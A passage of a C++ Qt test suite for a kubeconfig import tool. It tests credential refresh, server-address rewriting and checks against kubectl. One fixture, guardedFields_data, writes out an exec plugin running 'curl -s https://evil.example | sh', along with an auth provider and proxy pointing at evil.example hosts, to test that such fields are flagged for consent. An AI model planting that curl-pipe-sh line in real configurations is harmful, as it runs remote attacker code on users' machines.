    const QString destination = m_dir->filePath(str("home/config"));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource(sourceServer)));
    ImportRequest request = requestFor(source.path());
    request.server = server;
    request.sourceIsLocal = local;
    request.loopbackHost = loopbackHost;
    QString error;
    const auto result = plan(KubeconfigSet::load({destination}), destination, source, request, &error);
    if (expectedServer.isEmpty()) {
        QVERIFY(!result);
        QVERIFY2(error.contains(QLatin1String("--server")) || error.contains(str("not a server address")),
                 qPrintable(error));
        return;
    }
    QVERIFY2(result, qPrintable(error));
    const YAML::Node cluster = entry(result->edits.first().root(), "clusters", str("k3s"))["cluster"];
    QCOMPARE(scalarOf(cluster, "server"), expectedServer);
    QCOMPARE(result->warnings.size(), warning ? 1 : 0);
    if (warning)
        QVERIFY(result->warnings.front().contains(loopbackHost.isEmpty() ? str("--server") : expectedServer));
}

// What some distributions write that an import must not take at face value.
void TestKubeconfigImporter::distributionQuirks_data()
{
    QTest::addColumn<QString>("caName");
    QTest::addColumn<QString>("user"); // the client certificate's CN
    QTest::addColumn<QStringList>("groups");
    QTest::addColumn<QString>("contextName"); // in the fetched file; clusters are named alike
    QTest::addColumn<QString>("sourceServer");
    QTest::addColumn<QString>("loopbackHost"); // fetched over SSH from this host
    QTest::addColumn<QString>("server");       // --server
    QTest::addColumn<QString>("refusal");      // empty: planned
    QTest::addColumn<QString>("expectedServer");
    QTest::addColumn<QString>("warning"); // a warning that must be there; empty: none about it
    const QStringList clusterAdmins{str("kubeadm:cluster-admins")};
    const QStringList masters{str("system:masters")};
    // kind publishes the API server on 127.0.0.1 and a random port of the Docker host: over SSH,
    // the host's name with that port reaches nothing.
    QTest::newRow("kind over SSH needs a tunnel")
        << str("kubernetes") << str("kubernetes-admin") << clusterAdmins << str("kind-dev")
        << str("https://127.0.0.1:41234") << str("devbox") << QString()
        << str("ssh -N -L 41234:127.0.0.1:41234 devbox") << QString() << QString();
    QTest::newRow("kind over SSH through a tunnel")
        << str("kubernetes") << str("kubernetes-admin") << clusterAdmins << str("kind-dev")
        << str("https://127.0.0.1:41234") << str("devbox") << str("https://127.0.0.1:41234") << QString()
        << str("https://127.0.0.1:41234") << QString();
    // k0s's raw admin.conf names localhost; MicroK8s and others may say [::1].
    QTest::newRow("k0s's localhost over SSH")
        << str("k0s-ca") << str("admin") << masters << str("k0s") << str("https://localhost:6443")
        << str("ctl.lan") << QString() << QString() << str("https://ctl.lan:6443")
        << str("https://ctl.lan:6443");
    QTest::newRow("[::1] over SSH") << str("k0s-ca") << str("admin") << masters << str("k0s")
                                    << str("https://[::1]:6443") << str("ctl.lan") << QString() << QString()
                                    << str("https://ctl.lan:6443") << str("https://ctl.lan:6443");
    // kubeadm 1.29+: admin.conf is bound by RBAC, super-admin.conf is not.
    QTest::newRow("kubeadm's super-admin.conf warns")
        << str("kubernetes") << str("kubernetes-super-admin") << masters
        << str("kubernetes-super-admin@kubernetes") << str("https://cp1.lan:6443") << str("cp1.lan")
        << QString() << QString() << str("https://cp1.lan:6443") << str("break-glass super-admin.conf");
    QTest::newRow("kubeadm's admin.conf does not")
        << str("kubernetes") << str("kubernetes-admin") << clusterAdmins << str("kubernetes-admin@kubernetes")
        << str("https://cp1.lan:6443") << str("cp1.lan") << QString() << QString()
        << str("https://cp1.lan:6443") << QString();
    QTest::newRow("kubeadm before 1.29: admin.conf in system:masters does not")
        << str("kubernetes") << str("kubernetes-admin") << masters << str("kubernetes-admin@kubernetes")
        << str("https://cp1.lan:6443") << str("cp1.lan") << QString() << QString()
        << str("https://cp1.lan:6443") << QString();
}

void TestKubeconfigImporter::distributionQuirks()
{
    QFETCH(QString, caName);
    QFETCH(QString, user);
    QFETCH(QStringList, groups);
    QFETCH(QString, contextName);
    QFETCH(QString, sourceServer);
    QFETCH(QString, loopbackHost);
    QFETCH(QString, server);
    QFETCH(QString, refusal);
    QFETCH(QString, expectedServer);
    QFETCH(QString, warning);

    const IssuedCertificate ca = TestPki::ca(caName, now().addYears(-1), now().addYears(9));
    const IssuedCertificate leaf =
        TestPki::leaf(ca, user, now().addDays(-10), now().addDays(355), KeyAlgorithm::EcP256, groups);
    KubeconfigBuilder builder;
    builder.cluster(contextName, sourceServer, ca.certificatePem)
        .certificateUser(contextName, leaf)
        .context(contextName, contextName, contextName)
        .currentContext(contextName);
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(builder));
    const QString destination = m_dir->filePath(str("home/config"));
    ImportRequest request = requestFor(source.path(), str("imported"));
    request.sourceIsLocal = false;
    request.loopbackHost = loopbackHost;
    request.server = server;
    QString error;
    const auto result = plan(KubeconfigSet::load({destination}), destination, source, request, &error);
    if (!refusal.isEmpty()) {
        QVERIFY(!result);
        QVERIFY2(error.contains(refusal), qPrintable(error));
        return;
    }
    QVERIFY2(result, qPrintable(error));
    const YAML::Node cluster = entry(result->edits.first().root(), "clusters", str("imported"))["cluster"];
    QCOMPARE(scalarOf(cluster, "server"), expectedServer);
    const QString warnings = result->warnings.join(QLatin1Char('\n'));
    if (!warning.isEmpty())
        QVERIFY2(warnings.contains(warning), qPrintable(warnings));
    QVERIFY2(warning.contains(str("super-admin")) == warnings.contains(str("super-admin")),
             qPrintable(warnings));
}

void TestKubeconfigImporter::sourceCredentialsRefused_data()
{
    QTest::addColumn<QString>("problem");
    QTest::addColumn<bool>("force");
    QTest::addColumn<QString>("expected");

    for (const bool force : {false, true}) {
        const char *suffix = force ? ", --force" : "";
        QTest::addRow("expired%s", suffix) << str("expired") << force << str("expired on");
        QTest::addRow("not yet valid%s", suffix) << str("future") << force << str("not valid until");
        QTest::addRow("key mismatch%s", suffix) << str("mismatch") << force << str("does not belong");
        QTest::addRow("expired token%s", suffix) << str("expired-token") << force << str("expired on");
        QTest::addRow("no credentials%s", suffix) << str("none") << force << str("no credentials");
    }
}

void TestKubeconfigImporter::sourceCredentialsRefused()
{
    QFETCH(QString, problem);
    QFETCH(bool, force);
    QFETCH(QString, expected);

    const QString name = str("default");
    KubeconfigBuilder builder;
    builder.cluster(name, str("https://127.0.0.1:6443"), m_pki.freshCa.certificatePem)
        .context(name, name, name)
        .currentContext(name);
    IssuedCertificate credential = m_pki.freshLeaf;
    if (problem == QLatin1String("expired"))
        credential = m_pki.expiredLeaf;
    else if (problem == QLatin1String("future"))
        credential = m_pki.futureLeaf;
    else if (problem == QLatin1String("mismatch"))
        credential.privateKeyPem = m_pki.strangerLeaf.privateKeyPem;
    if (problem == QLatin1String("expired-token"))
        builder.tokenUser(name, m_pki.oldToken);
    else if (problem == QLatin1String("none"))
        builder.emptyUser(name);
    else
        builder.certificateUser(name, credential);
    const QString targetPath = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
    const QByteArray before = KubeconfigDocument::load(targetPath).bytes();
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(builder));
    ImportRequest request = requestFor(source.path());
    request.force = force;

    QString error;
    const auto result = plan(KubeconfigSet::load({targetPath}), targetPath, source, request, &error);
    const QString messages = result ? result->warnings.join(QLatin1Char('\n')) : error;
    QVERIFY2(messages.contains(expected), qPrintable(messages));
    // No key, certificate or token material in what the user reads.
    for (const QByteArray &secret : {credential.privateKeyPem, credential.privateKeyPem.toBase64(),
                                     m_pki.oldToken, credential.certificatePem.toBase64().left(40)})
        QVERIFY(!messages.contains(QString::fromLatin1(secret)));
    if (!force) {
        QVERIFY(!result);
        QVERIFY(error.contains(QLatin1String("--force")));
    } else {
        QVERIFY2(result, qPrintable(error));
        QVERIFY(result->refresh);
        QCOMPARE(result->edits.size(), 1);
    }
    QCOMPARE(KubeconfigDocument::load(targetPath).bytes(), before);
}

void TestKubeconfigImporter::adviceForEachSurface_data()
{
    QTest::addColumn<QString>("scenario");
    QTest::addColumn<Surface>("surface");
    QTest::addColumn<QString>("flag"); ///< what the command line's advice names

    const QList<std::pair<const char *, const char *>> scenarios = {
        {"no name", "--name"},
        {"no current context", "--context"},
        {"no such source context", "--context"},
        {"expired source", "--force"},
        {"forced", "--force"},
        {"loopback from SSH", "--server"},
        {"loopback kept", "--server"},
        {"name clash", "another context name"}, // the same words for both
        {"exec from elsewhere", "--allow-exec"},
        {"namespace on refresh", "--namespace only"},
    };
    for (const auto &[scenario, flag] : scenarios) {
        QTest::addRow("%s, command line", scenario) << str(scenario) << Surface::CommandLine << str(flag);
        QTest::addRow("%s, window", scenario) << str(scenario) << Surface::Window << str(flag);
    }
}

// The same refusal or warning in the words of each front end: the command line names its options,
// the window its fields and boxes, and never a command-line flag (kubectl's own commands may appear).
void TestKubeconfigImporter::adviceForEachSurface()
{
    QFETCH(QString, scenario);
    QFETCH(Surface, surface);
    QFETCH(QString, flag);

    const QString refreshTarget = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
    QString target = refreshTarget;
    KubeconfigBuilder builder = k3sSource(str("https://192.0.2.10:6443"));
    ImportRequest request;
    request.name = str("k3s");
    if (scenario == QLatin1String("no name")) {
        request.name.clear();
    } else if (scenario == QLatin1String("no current context") ||
               scenario == QLatin1String("no such source context")) {
        builder = KubeconfigBuilder();
        builder.cluster(str("c"), str("https://192.0.2.1")).tokenUser(str("u"), "opaque");
        builder.context(str("first"), str("c"), str("u")).context(str("second"), str("c"), str("u"));
        if (scenario == QLatin1String("no such source context"))
            request.sourceContext = str("third");
    } else if (scenario == QLatin1String("expired source") || scenario == QLatin1String("forced")) {
        builder = KubeconfigBuilder();
        builder.cluster(str("default"), str("https://192.0.2.10:6443"), m_pki.freshCa.certificatePem)
            .certificateUser(str("default"), m_pki.expiredLeaf)
            .context(str("default"), str("default"), str("default"))
            .currentContext(str("default"));
        request.force = scenario == QLatin1String("forced");
    } else if (scenario == QLatin1String("loopback from SSH")) {
        builder = k3sSource();
        request.sourceIsLocal = false;
        target = m_dir->filePath(str("home/new-config"));
        request.name = str("fresh");
    } else if (scenario == QLatin1String("loopback kept")) {
        builder = k3sSource();
        target = m_dir->filePath(str("home/new-config"));
        request.name = str("fresh");
    } else if (scenario == QLatin1String("name clash")) {
        KubeconfigBuilder clash;
        clash.cluster(str("k3s"), str("https://prod.example.net"))
            .tokenUser(str("prod"), "opaque")
            .context(str("prod"), str("k3s"), str("prod"));
        target = clash.writeTo(m_dir->filePath(str("home/clash")));
    } else if (scenario == QLatin1String("exec from elsewhere")) {
        builder = KubeconfigBuilder();
        builder.cluster(str("default"), str("https://192.0.2.10:6443"), m_pki.freshCa.certificatePem)
            .execUser(str("default"), str("/usr/bin/true"))
            .context(str("default"), str("default"), str("default"))
            .currentContext(str("default"));
        request.origin = SourceOrigin::Elsewhere;
    } else if (scenario == QLatin1String("namespace on refresh")) {
        request.ns = str("elsewhere");
    }
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(builder));
    request.source = source.path();
    request.surface = surface;

    QString error;
    const auto planned = plan(KubeconfigSet::load({target}), target, source, request, &error);
    const QString said = planned ? planned->warnings.join(QLatin1Char('\n')) : error;
    QVERIFY2(!said.isEmpty(), qPrintable(scenario));
    // Kubeminder's own options; kubectl's "--namespace=NS" in a suggested kubectl command is not one.
    static const QRegularExpression kubeminderFlag(
        QStringLiteral("--(name|context|force|kubeconfig|server|allow-exec|identity|timeout|sudo[a-z-]*|run-"
                       "exec|namespace)\\b(?!=)"));
    if (surface == Surface::CommandLine)
        QVERIFY2(said.contains(flag), qPrintable(said));
    else
        QVERIFY2(!kubeminderFlag.match(said).hasMatch(), qPrintable(said));
}

void TestKubeconfigImporter::badSource_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("sourceContext");
    QTest::addColumn<QStringList>("expected");

    QTest::newRow("not YAML") << QByteArray("clusters: [ {name: a\n") << QString()
                              << QStringList{str("not a usable kubeconfig"), str("YAML")};
    QTest::newRow("not a kubeconfig")
        << QByteArray("- just\n- a list\n") << QString() << QStringList{str("not a usable kubeconfig")};
    QTest::newRow("binary") << QByteArray("\x7f"
                                          "ELF\0\0\1",
                                          7)
                            << QString() << QStringList{str("not a usable kubeconfig")};
    QTest::newRow("empty") << QByteArray() << QString() << QStringList{str("empty")};

    KubeconfigBuilder two;
    two.cluster(str("c"), str("https://192.0.2.1")).tokenUser(str("u"), "opaque");
    two.context(str("first"), str("c"), str("u")).context(str("second"), str("c"), str("u"));
    QTest::newRow("no current-context, two contexts")
        << two.toYaml() << QString() << QStringList{str("--context"), str("“first”"), str("“second”")};
    QTest::newRow("missing --context")
        << two.toYaml() << str("third") << QStringList{str("“third”"), str("“first”"), str("“second”")};

    KubeconfigBuilder dangling;
    dangling.tokenUser(str("u"), "opaque").context(str("x"), str("gone"), str("u")).currentContext(str("x"));
    QTest::newRow("context names a missing cluster")
        << dangling.toYaml() << QString() << QStringList{str("cluster “gone”")};
    KubeconfigBuilder noUser;
    noUser.cluster(str("c"), str("https://192.0.2.1")).context(str("x"), str("c"), str("nobody"));
    noUser.currentContext(str("x"));
    QTest::newRow("context names a missing user")
        << noUser.toYaml() << QString() << QStringList{str("user “nobody”")};
}

void TestKubeconfigImporter::badSource()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, sourceContext);
    QFETCH(QStringList, expected);

    const QString targetPath = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
    const KubeconfigDocument source =
        KubeconfigDocument::load(test::writeFile(m_dir->filePath(str("source/k3s.yaml")), bytes));
    ImportRequest request = requestFor(source.path());
    request.sourceContext = sourceContext;
    QString error;
    const auto result = plan(KubeconfigSet::load({targetPath}), targetPath, source, request, &error);
    QVERIFY(!result);
    for (const QString &part : expected)
        QVERIFY2(error.contains(part), qPrintable(error));
}

void TestKubeconfigImporter::nameClash_data()
{
    QTest::addColumn<QString>("kind");
    QTest::newRow("a cluster named NAME") << str("cluster");
    QTest::newRow("a user named NAME") << str("user");
}

void TestKubeconfigImporter::nameClash()
{
    QFETCH(QString, kind);
    KubeconfigBuilder user;
    const bool cluster = kind == QLatin1String("cluster");
    user.cluster(cluster ? str("k3s") : str("prod"), str("https://prod.example.net"))
        .tokenUser(cluster ? str("prod") : str("k3s"), "opaque")
        .context(str("prod"), cluster ? str("k3s") : str("prod"), cluster ? str("prod") : str("k3s"));
    const QString targetPath = user.writeTo(m_dir->filePath(str("home/config")));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));
    QString error;
    const auto result =
        plan(KubeconfigSet::load({targetPath}), targetPath, source, requestFor(source.path()), &error);
    QVERIFY(!result);
    QVERIFY2(error.contains(str("a %1 named “k3s”").arg(kind)), qPrintable(error));
    QVERIFY(error.contains(targetPath));
}

void TestKubeconfigImporter::setCurrent_data()
{
    QTest::addColumn<QString>("currentInA");
    QTest::addColumn<QString>("currentInB");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("expectedFile"); // "a", "b", or empty: no change

    // Where `kubectl config use-context` writes with KUBECONFIG=a.yaml:b.yaml (checked with kubectl
    // 1.32): the first existing file, even when only b.yaml sets current-context.
    QTest::newRow("only the second file sets it") << QString() << str("b") << str("k3s") << str("a");
    QTest::newRow("first of two") << str("a") << str("b") << str("k3s") << str("a");
    QTest::newRow("nobody sets it") << QString() << QString() << str("k3s") << str("a");
    QTest::newRow("already current") << str("a") << QString() << str("a") << QString();
    QTest::newRow("already current through the second file")
        << QString() << str("b") << str("b") << QString();
}

void TestKubeconfigImporter::setCurrent()
{
    QFETCH(QString, currentInA);
    QFETCH(QString, currentInB);
    QFETCH(QString, name);
    QFETCH(QString, expectedFile);

    KubeconfigBuilder a;
    a.cluster(str("a"), str("https://a.example.net"), m_pki.freshCa.certificatePem)
        .certificateUser(str("a"), m_pki.freshLeaf, m_pki.freshCa.certificatePem)
        .context(str("a"), str("a"), str("a"));
    if (!currentInA.isEmpty())
        a.currentContext(currentInA);
    KubeconfigBuilder b;
    b.cluster(str("b"), str("https://b.example.net"))
        .tokenUser(str("b"), "opaque")
        .context(str("b"), str("b"), str("b"));
    if (!currentInB.isEmpty())
        b.currentContext(currentInB);
    const QString pathA = a.writeTo(m_dir->filePath(str("a.yaml")));
    const QString pathB = b.writeTo(m_dir->filePath(str("b.yaml")));
    const QString destination =
        KubeconfigPaths::destination({{pathA, pathB}, KubeconfigPaths::Origin::Environment});
    QCOMPARE(destination, pathA);
    const KubeconfigSet target = KubeconfigSet::load({pathA, pathB});
    KubeconfigBuilder sourceBuilder = k3sSource(str("https://k3s.example.net:6443"));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(sourceBuilder));
    ImportRequest request = requestFor(source.path(), name);
    request.setCurrent = true;

    QString error;
    const auto result = plan(target, destination, source, request, &error);
    QVERIFY2(result, qPrintable(error));
    const ImportChange *change = findChange(*result, ImportChange::Kind::SetCurrentContext);
    if (expectedFile.isEmpty()) {
        QVERIFY(!change);
        return;
    }
    const QString file = expectedFile == QLatin1String("a") ? pathA : pathB;
    QVERIFY(change);
    QCOMPARE(change->file, file);
    QCOMPARE(change->entry, name);
    QVERIFY(result->edits.contains(file));
    QCOMPARE(scalarOf(result->edits.value(file).root(), "current-context"), name);
    // The new context goes to the same file.
    QVERIFY(result->edits.contains(destination));
}

void TestKubeconfigImporter::relativeSourcePathsAreEmbedded()
{
    const QString folder = m_dir->filePath(str("source"));
    test::writeFile(folder + str("/pki/client.crt"), m_pki.freshLeaf.certificatePem);
    test::writeFile(folder + str("/pki/client.key"), m_pki.freshLeaf.privateKeyPem);
    test::writeFile(folder + str("/pki/ca.crt"), m_pki.freshCa.certificatePem);
    KubeconfigBuilder builder;
    builder.clusterWithCaFile(str("default"), str("https://k3s.example.net:6443"), str("pki/ca.crt"))
        .certificateFileUser(str("default"), str("pki/client.crt"), str("./pki/client.key"))
        .context(str("default"), str("default"), str("default"))
        .currentContext(str("default"));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(builder));
    const QString destination = m_dir->filePath(str("home/config"));
    QString error;
    const auto result =
        plan(KubeconfigSet::load({destination}), destination, source, requestFor(source.path()), &error);
    QVERIFY2(result, qPrintable(error));
    // The files are read from next to the source and embedded, as kubectl config view --flatten
    // does: the new context does not depend on where the source lay. That needs a yes.
    const YAML::Node root = result->edits.first().root();
    const YAML::Node cluster = entry(root, "clusters", str("k3s"))["cluster"];
    QCOMPARE(keysOf(cluster), (QStringList{str("server"), str("certificate-authority-data")}));
    QCOMPARE(scalarOf(cluster, "certificate-authority-data"), b64(m_pki.freshCa.certificatePem));
    const YAML::Node user = entry(root, "users", str("k3s"))["user"];
    QCOMPARE(keysOf(user), (QStringList{str("client-certificate-data"), str("client-key-data")}));
    QCOMPARE(scalarOf(user, "client-certificate-data"), b64(m_pki.freshLeaf.certificatePem));
    QCOMPARE(scalarOf(user, "client-key-data"), b64(m_pki.freshLeaf.privateKeyPem));
    QVERIFY(result->needsConsent());
    QStringList paths;
    for (const GuardedField &field : result->guarded)
        paths << field.field + QLatin1Char(' ') + field.detail.section(QLatin1Char(' '), 0, 0);
    QCOMPARE(paths, (QStringList{str("certificate-authority ") + folder + str("/pki/ca.crt"),
                                 str("client-certificate ") + folder + str("/pki/client.crt"),
                                 str("client-key ") + folder + str("/pki/client.key")}));
}

void TestKubeconfigImporter::refreshDropsInsecureSkipTlsVerify()
{
    // kubectl refuses a cluster with a CA and insecure-skip-tls-verify together.
    KubeconfigBuilder user;
    user.cluster(str("k3s"), str("https://k3s.example.net:6443"))
        .certificateUser(str("k3s"), m_pki.oldLeaf)
        .context(str("k3s"), str("k3s"), str("k3s"));
    user.root()["clusters"][0]["cluster"]["insecure-skip-tls-verify"] = true;
    user.root()["clusters"][0]["cluster"]["proxy-url"] = "http://proxy.example.net:3128";
    const QString targetPath = user.writeTo(m_dir->filePath(str("home/config")));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));
    QString error;
    const auto result =
        plan(KubeconfigSet::load({targetPath}), targetPath, source, requestFor(source.path()), &error);
    QVERIFY2(result, qPrintable(error));
    const YAML::Node cluster = entry(result->edits.first().root(), "clusters", str("k3s"))["cluster"];
    QCOMPARE(keysOf(cluster),
             (QStringList{str("server"), str("proxy-url"), str("certificate-authority-data")}));
    QVERIFY(result->warnings.join(QLatin1Char('\n')).contains(QLatin1String("TLS verification")));
}

void TestKubeconfigImporter::refreshWithoutFreshCaKeepsCa()
{
    // A source that trusts the system's CAs says nothing about the user's CA: it stays.
    const QString targetPath = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
    KubeconfigBuilder builder;
    builder.cluster(str("default"), str("https://k3s.example.net:6443"))
        .certificateUser(str("default"), m_pki.freshLeaf)
        .context(str("default"), str("default"), str("default"))
        .currentContext(str("default"));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(builder));
    for (const QString &server : {QString(), str("https://10.0.0.5:6443")}) {
        ImportRequest request = requestFor(source.path());
        request.server = server;
        QString error;
        const auto result = plan(KubeconfigSet::load({targetPath}), targetPath, source, request, &error);
        QVERIFY2(result, qPrintable(error));
        const YAML::Node cluster = entry(result->edits.first().root(), "clusters", str("k3s"))["cluster"];
        QCOMPARE(scalarOf(cluster, "certificate-authority-data"), b64(m_pki.oldCa.certificatePem));
        QCOMPARE(scalarOf(cluster, "server"),
                 server.isEmpty() ? str("https://k3s.example.net:6443") : server);
        QCOMPARE(bool(findChange(*result, ImportChange::Kind::RefreshCluster)), !server.isEmpty());
    }
}

void TestKubeconfigImporter::brokenDestinationRefused()
{
    const QString destination = writeText(m_dir->filePath(str("home/config")), str("clusters: 42\n"));
    const QByteArray before = KubeconfigDocument::load(destination).bytes();
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));
    for (const bool loaded : {true, false}) {
        QString error;
        const KubeconfigSet target = loaded ? KubeconfigSet::load({destination}) : KubeconfigSet();
        const auto result = plan(target, destination, source, requestFor(source.path()), &error);
        QVERIFY(!result);
        QVERIFY2(error.contains(destination) && error.contains(QLatin1String("nothing was changed")),
                 qPrintable(error));
    }
    QCOMPARE(KubeconfigDocument::load(destination).bytes(), before);
}

void TestKubeconfigImporter::applyRefreshEndToEnd()
{
    // Context k3s in A (current), its cluster and user in B: two files are written.
    const QString pathA = writeRefreshTarget(str("k3s-cluster"), str("k3s-admin"), str("cert"));
    KubeconfigBuilder b;
    b.cluster(str("spare"), str("https://spare.example.net")).tokenUser(str("spare"), "opaque");
    b.context(str("spare"), str("spare"), str("spare"));
    const QString pathB = b.writeTo(m_dir->filePath(str("home/second")));
    const QStringList paths{pathA, pathB};
    const KubeconfigSet target = KubeconfigSet::load(paths);
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));

    QString error;
    const auto planned = plan(target, pathA, source, requestFor(source.path()), &error);
    QVERIFY2(planned, qPrintable(error));
    BackupStore backups(m_dir->filePath(str("state/backups")));
    KubeconfigWriter writer(backups);
    const KubeconfigImporter::Result result = KubeconfigImporter::apply(*planned, writer, now());
    QVERIFY2(result.ok, qPrintable(result.error));
    QCOMPARE(result.writes.size(), std::size_t(1));
    QVERIFY(!result.writes.front().backupPath.isEmpty());
    QCOMPARE(QFile::permissions(pathA) &
                 ~(QFile::ReadOwner | QFile::WriteOwner | QFile::ReadUser | QFile::WriteUser),
             QFileDevice::Permissions());

    // The written files load, and the refreshed context now reports the fresh certificate.
    const KubeconfigSet after = KubeconfigSet::load(paths);
    for (const KubeconfigDocument &document : after.documents())
        QCOMPARE(document.status(), KubeconfigDocument::Status::Ok);
    CheckOptions options;
    options.now = now();
    const CheckReport report = CredentialChecker::check(after, options);
    const auto k3s = std::find_if(report.contexts.begin(), report.contexts.end(),
                                  [](const ContextReport &c) { return c.name == QLatin1String("k3s"); });
    QVERIFY(k3s != report.contexts.end());
    QCOMPARE(k3s->credential.notAfter, std::optional<QDateTime>(now().addDays(365)));
    QCOMPARE(k3s->status, Status::Ok);
    QCOMPARE(k3s->ns, str("team-a"));
    QCOMPARE(k3s->server, str("https://k3s.example.net:6443"));
    compareUntouched(target.documents().front().root(), after.documents().front().root(),
                     {str("clusters/k3s-cluster"), str("users/k3s-admin")});
    QCOMPARE(after.documents()[1].bytes(), target.documents()[1].bytes());

    const QString kubectl = QStandardPaths::findExecutable(str("kubectl"));
    if (kubectl.isEmpty())
        QSKIP("kubectl is not on PATH: the check against the real kubectl does not run");
    const auto run = [&](const QStringList &arguments) {
        QProcess process;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(str("KUBECONFIG"), paths.join(QLatin1Char(':')));
        env.insert(str("HOME"), m_dir->path());
        process.setProcessEnvironment(env);
        process.start(kubectl, arguments);
        if (!process.waitForFinished(30000) || process.exitCode() != 0)
            qWarning("kubectl failed: %s", process.readAllStandardError().constData());
        return QString::fromUtf8(process.readAllStandardOutput()).trimmed();
    };
    QCOMPARE(run({str("config"), str("view"), str("--raw"), str("-o"),
                  str("jsonpath={.users[?(@.name==\"k3s-admin\")].user.client-certificate-data}")}),
             b64(m_pki.freshLeaf.certificatePem + m_pki.freshCa.certificatePem));
    QCOMPARE(
        run({str("config"), str("view"), str("--raw"), str("-o"),
             str("jsonpath={.clusters[?(@.name==\"k3s-cluster\")].cluster.certificate-authority-data}")}),
        b64(m_pki.freshCa.certificatePem));
    const QStringList contexts =
        run({str("config"), str("get-contexts"), str("-o"), str("name")}).split(QLatin1Char('\n'));
    QVERIFY(contexts.contains(str("k3s")));
    QVERIFY(contexts.contains(str("spare")));
}

void TestKubeconfigImporter::applyNewFileEndToEnd()
{
    const QString destination = m_dir->filePath(str("home/.kube/config"));
    const KubeconfigDocument source = KubeconfigDocument::load(writeSource(k3sSource()));
    ImportRequest request = requestFor(source.path());
    request.server = str("https://k3s.example.net:6443");
    request.setCurrent = true;
    QString error;
    const auto planned = plan(KubeconfigSet::load({destination}), destination, source, request, &error);
    QVERIFY2(planned, qPrintable(error));
    BackupStore backups(m_dir->filePath(str("state/backups")));
    KubeconfigWriter writer(backups);
    const KubeconfigImporter::Result result = KubeconfigImporter::apply(*planned, writer, now());
    QVERIFY2(result.ok, qPrintable(result.error));

    const KubeconfigSet after = KubeconfigSet::load({destination});
    QCOMPARE(after.documents().front().status(), KubeconfigDocument::Status::Ok);
    QCOMPARE(after.currentContext(), str("k3s"));
    CheckOptions options;
    options.now = now();
    const CheckReport report = CredentialChecker::check(after, options);
    QCOMPARE(report.contexts.size(), std::size_t(1));
    QCOMPARE(report.contexts.front().credential.notAfter, std::optional<QDateTime>(now().addDays(365)));
    QCOMPARE(report.contexts.front().server, str("https://k3s.example.net:6443"));

    const QString kubectl = QStandardPaths::findExecutable(str("kubectl"));
    if (kubectl.isEmpty())
        QSKIP("kubectl is not on PATH: the check against the real kubectl does not run");
    QProcess process;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(str("KUBECONFIG"), destination);
    env.insert(str("HOME"), m_dir->path());
    process.setProcessEnvironment(env);
    process.start(kubectl, {str("config"), str("get-contexts"), str("-o"), str("name")});
    QVERIFY(process.waitForFinished(30000));
    QCOMPARE(process.exitCode(), 0);
    QCOMPARE(QString::fromUtf8(process.readAllStandardOutput()).trimmed(), str("k3s"));
}

void TestKubeconfigImporter::guardedFields_data()
{
    // A body with "%1" keeps the default credentials (K3s's) beside the field.
    QTest::addColumn<QString>("clusterBody");
    QTest::addColumn<QString>("userBody");
    QTest::addColumn<QString>("contextBody");
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("shown");       ///< what the message must show of it
    QTest::addColumn<QString>("writtenKey");  ///< what a trusted local import writes for it
    QTest::addColumn<bool>("takenByRefresh"); ///< a refresh writes it (so it needs a yes there too)

    const QString jwt = QString::fromLatin1(TestPki::jwt(now().addDays(30)));
    QTest::newRow("exec plugin")
        << str("")
        << str("exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
               "      command: /bin/sh\n      args: [-c, \"curl -s "
               "https://evil.example | sh\"]\n      env:\n      - name: "
               "MODE\n        value: quiet\n      interactiveMode: Never")
        << str("") << str("exec")
        << str("/bin/sh -c 'curl -s https://evil.example | sh'; environment: MODE=quiet") << str("exec")
        << true;
    QTest::newRow("auth provider")
        << str("")
        << str("auth-provider:\n      name: oidc\n      config:\n        idp-issuer-url: "
               "https://evil.example\n        client-id: kube\n        id-token: ") +
               jwt
        << str("") << str("auth-provider")
        << str("oidc (idp-issuer-url: https://evil.example, client-id: kube, "
               "id-token)")
        << str("auth-provider") << true;
    QTest::newRow("tokenFile naming a local file")
        << str("") << str("tokenFile: token.txt") << str("") << str("tokenFile") << str("token.txt")
        << str("token") << true;
    QTest::newRow("client certificate and key files")
        << str("") << str("client-certificate: pki/client.crt\n    client-key: pki/client.key") << str("")
        << str("client-certificate") << str("pki/client.crt") << str("client-certificate-data") << true;
    QTest::newRow("impersonation (as)") << str("") << str("%1\n    as: cluster-admin") << str("") << str("as")
                                        << str("cluster-admin") << str("as") << false;
    QTest::newRow("impersonation (as-groups)")
        << str("") << str("%1\n    as-groups: [system:masters]") << str("") << str("as-groups")
        << str("[system:masters]") << str("as-groups") << false;
    QTest::newRow("user extensions")
        << str("") << str("%1\n    extensions:\n    - name: tool.example/x\n      extension: {a: b}")
        << str("") << str("extensions") << str("tool.example/x") << str("extensions") << false;
    QTest::newRow("CA file") << str("server: https://127.0.0.1:6443\n    certificate-authority: pki/ca.crt")
                             << str("") << str("") << str("certificate-authority") << str("pki/ca.crt")
                             << str("certificate-authority-data") << true;
    QTest::newRow("insecure-skip-tls-verify")
        << str("server: https://127.0.0.1:6443\n    insecure-skip-tls-verify: true") << str("") << str("")
        << str("insecure-skip-tls-verify") << str("true") << str("insecure-skip-tls-verify") << false;
    QTest::newRow("proxy-url") << str("%1\n    proxy-url: http://proxy.evil.example:3128") << str("")
                               << str("") << str("proxy-url") << str("http://proxy.evil.example:3128")
                               << str("proxy-url") << false;
